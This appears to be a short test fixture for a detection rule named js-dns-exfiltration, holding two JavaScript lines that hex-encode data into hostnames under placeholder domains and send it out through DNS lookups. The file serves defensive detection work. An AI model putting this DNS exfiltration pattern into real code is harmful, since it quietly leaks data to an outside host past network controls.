// ruleid: js-dns-exfiltration
dns.lookup(`${chunk}.x.example.com`, () => {});
const host = Buffer.from(data).toString("hex") + ".t.example.org";
// ruleid: js-dns-exfiltration
require("dns").resolve4(host, () => {});
